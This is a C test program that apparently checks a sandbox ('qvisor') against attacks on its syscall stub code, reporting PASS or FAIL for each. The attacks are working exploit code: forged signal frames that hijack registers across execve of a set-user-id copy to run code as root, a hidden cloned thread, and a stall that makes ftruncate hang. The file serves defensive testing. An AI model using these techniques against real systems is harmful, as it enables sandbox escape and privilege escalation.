// What a thread can do that makes the frame call itself, with registers of its choice, when the kernel expects its handler to: it keeps
// control of stub code until the operations are carried out. Each attack in a process of its own, which may be ended for it, and must end.
//
//   stubs            every attack; one PASS or FAIL line each; exit code = failures. As root of the container.
//   stubs victim     the set-user-id program of one of them
//
// Offsets as in qvisor/src/platform/process/{layout,frame}.rs.
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { SLOT = 0x4000, ORDERS = 64, FRAME = 0x2008, KICK = SIGURG };
enum { R12 = 4, RDI = 8, RSI = 9, RBP = 10, RBX = 11, RDX = 12, RAX = 13, RCX = 14, RSP = 15, RIP = 16 }; // from frame[6] on

static uint64_t now_ms(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static char *slots;
static uint64_t frame_site, sigreturn_site, first_frame;

static bool find_stub(void) {
    uint64_t vdso = getauxval(AT_SYSINFO_EHDR), base = vdso & ~0x3ffffull;
    if (vdso == 0 || (base & 0xfffffffffull) != 0 || base + 0x10000 > vdso) return false;
    static const unsigned char call[] = { 0xb8, 0x01, 0x4b, 0x55, 0x51, 0x0f, 0x05 }, back[] = { 0xb8, 0x0f, 0, 0, 0, 0x0f, 0x05 };
    slots = (char *)base + 0x40000;
    for (const char *at = (const char *)base; at < (const char *)base + 0x2000 - 32; at++) {
        if (memcmp(at, call, sizeof call) == 0) frame_site = (uint64_t)at + 5;
        if (memcmp(at, back, sizeof back) == 0) sigreturn_site = (uint64_t)at + 5;
        uint64_t words[4]; // the signal stack, and the frame that the first thread is born on
        memcpy(words, at, sizeof words);
        if (words[0] == (uint64_t)slots + 0x1000 && words[1] == 0 && words[2] == 0x3000) first_frame = words[3] - (uint64_t)slots;
    }
    return frame_site && sigreturn_site && first_frame;
}

// A signal frame, as the host makes them, that goes on at `rip` with signals of `mask` blocked.
static void make_frame(uint64_t *frame, char *slot, void *rip, void *rsp, uint64_t mask) {
    memset(frame, 0, 440);
    frame[1] = 6;                       // uc_flags
    frame[3] = (uint64_t)slot + 0x1000; // the signal stack
    frame[5] = 0x3000;
    frame[6 + RIP] = (uint64_t)rip;
    frame[6 + RSP] = (uint64_t)rsp;
    frame[23] = 0x202;
    frame[24] = 0x33 | 0x2bull << 48;
    frame[38] = mask;
}

// Makes a call with the kick blocked, and when the kernel takes this thread out of it, says by itself that it was kicked, from slot %r12,
// with a frame of its own choice in %rbx to return by.
void call_and_forge(void);
asm(".globl call_and_forge\ncall_and_forge:\n syscall\n mov $0x51554b01, %eax\n mov $23, %edi\n mov %r13, %rsi\n jmp *%rbp\n");
_Noreturn static void leave_by(uint64_t *frame) {
    asm volatile("mov %0, %%rsp\n mov $15, %%eax\n jmp *%1" ::"r"(frame + 1), "r"(sigreturn_site) : "memory");
    __builtin_unreachable();
}
static uint64_t first[55] __attribute__((aligned(64))), second[55] __attribute__((aligned(64)));

_Noreturn static void forge_call(uint64_t nr, uint64_t a, uint64_t b, uint64_t c, char *as_if_in, uint64_t *goes_on_by) {
    make_frame(first, slots, call_and_forge, as_if_in + 0x2000, 1ull << (KICK - 1));
    uint64_t *reg = first + 6;
    memset(slots + FRAME, 0, 440);
    reg[RAX] = nr, reg[RDI] = a, reg[RSI] = b, reg[RDX] = c;
    reg[R12] = (uint64_t)as_if_in, reg[5] = (uint64_t)slots + FRAME, reg[RBX] = (uint64_t)goes_on_by, reg[RBP] = frame_site;
    leave_by(first);
}

// ---- registers of our choice in a set-user-id program ------------------------------------------------------------------------------
void in_victim(void);
static const char got_in[] = "FAIL exec_registers: code of our choice runs as root\n";
static const char *victim_path;
void in_victim_c(void) {
    long euid, wrote;
    asm volatile("syscall" : "=a"(euid) : "a"(SYS_geteuid) : "rcx", "r11", "memory");
    if (euid == 0) asm volatile("syscall" : "=a"(wrote) : "a"(SYS_write), "D"(1), "S"(got_in), "d"(sizeof got_in - 1) : "rcx", "r11", "memory");
    asm volatile("syscall" ::"a"(SYS_exit_group), "D"(euid == 0 ? 1 : 0));
    __builtin_unreachable();
}
static int exec_registers(void) {
    static char *argv[] = { "victim", "victim", NULL }, *envp[] = { NULL };
    if (setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534)) return 3;
    // What lies in the slot stays there when the program is another.
    uint64_t *evil = (uint64_t *)(slots + 0x3008);
    make_frame(evil, slots, in_victim_c, slots + SLOT - 72, 0);
    forge_call(SYS_execve, (uint64_t)victim_path, (uint64_t)argv, (uint64_t)envp, slots, evil);
}

// ---- a thread that the kernel waits for without end --------------------------------------------------------------------------------
static void *nothing(void *arg) { return arg; }
void after_clone(void) {
    uint64_t turn;
    asm volatile("mov $1, %0\n lock xadd %0, arrived_count(%%rip)" : "=&r"(turn) :: "memory");
    if (turn == 0) asm volatile("syscall" ::"a"(SYS_exit_group), "D"(0) : "rcx", "r11", "memory");
    for (;;) asm volatile("pause");
}
static int hidden_thread(void) {
    extern _Atomic uint64_t arrived_count;
    (void)arrived_count;
    pthread_t thread; // so that the memory of the next slot is there
    if (pthread_create(&thread, NULL, nothing, NULL) || pthread_join(thread, NULL)) return 3;
    char *slot = slots + SLOT;
    const uint64_t shared = 0x100 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x40000;
    uint64_t *order = (uint64_t *)(slot + ORDERS);
    memset(order, 0, 56);
    order[0] = SYS_clone, order[1] = shared, order[2] = (uint64_t)slot + first_frame;
    static char stack[65536];
    make_frame(second, slots, after_clone, stack + 32768, 0);
    forge_call(SYS_clone, shared, (uint64_t)stack + sizeof stack, 0, slot, second);
}
asm(".pushsection .data\n.balign 8\n.globl arrived_count\narrived_count: .quad 0\n.popsection\n");


// ---- a thread that is stopped while it makes another one -----------------------------------------------------------------------------
static int ends_at_once(void *arg) { return arg != NULL; }
static int stopped_maker(void) {
    int object = memfd_create("shared", 0);
    if (object < 0 || ftruncate(object, 65536)) return 3;
    char *shared = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_SHARED, object, 0);
    pid_t maker = fork();
    if (maker == 0) {
        static char stack[65536];
        for (;;) {
            shared[0]++;
            pid_t child = clone(ends_at_once, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
            if (child > 0) waitpid(child, NULL, 0);
        }
    }
    bool waits = false;
    for (uint64_t end = now_ms() + 1000; now_ms() < end && !waits;) {
        kill(maker, SIGSTOP);
        // Whoever shortens an object waits for all who have it mapped.
        uint64_t before = now_ms();
        if (ftruncate(object, 4096) || ftruncate(object, 65536)) return 3;
        waits = now_ms() > before + 1000;
        kill(maker, SIGCONT);
        for (volatile int i = rand() % 100000; i > 0; i--) {}
    }
    kill(maker, SIGKILL);
    waitpid(maker, NULL, 0);
    return waits;
}

// 0 = it came to nothing.
static int judge(const char *name, int (*run)(void)) {
    int status = -1;
    pid_t pid = fork(), got = 0;
    if (pid == 0) _exit(run());
    uint64_t start = now_ms();
    while (pid > 0 && (got = waitpid(pid, &status, WNOHANG)) == 0 && now_ms() < start + 30000) {
        if (now_ms() > start + 4000) kill(pid, SIGKILL);
        usleep(1000);
    }
    bool ended = got == pid && ((WIFSIGNALED(status) && run != stopped_maker) || WEXITSTATUS(status) == 0);
    printf("%s %s: %s %x\n", ended ? "PASS" : "FAIL", name, got == pid ? "ended with status" : "does not end", status);
    fflush(stdout);
    return !ended;
}

int main(int argc, char **argv) {
    if (argc > 1 && strcmp(argv[1], "victim") == 0) return 0;
    if (!find_stub()) {
        puts("SKIP stubs: there are none");
        return 0;
    }
    char dir[] = "/tmp/stubs-XXXXXX", path[64];
    if (!mkdtemp(dir)) return 3;
    chmod(dir, 0755);
    snprintf(path, sizeof path, "%s/victim", dir);
    victim_path = path;
    int from = open("/proc/self/exe", O_RDONLY), to = open(path, O_WRONLY | O_CREAT, 0755);
    char buffer[65536];
    for (ssize_t n; (n = read(from, buffer, sizeof buffer)) > 0;)
        if (write(to, buffer, n) != n) return 3;
    close(to);
    if (chmod(path, 04755)) return 3;
    int failures = 0;
    for (int round = 0; round < (argc > 1 ? atoi(argv[1]) : 10); round++)
        failures += judge("exec_registers", exec_registers) + judge("hidden_thread", hidden_thread) + judge("stopped_maker", stopped_maker);
    unlink(path);
    rmdir(dir);
    return failures;
}
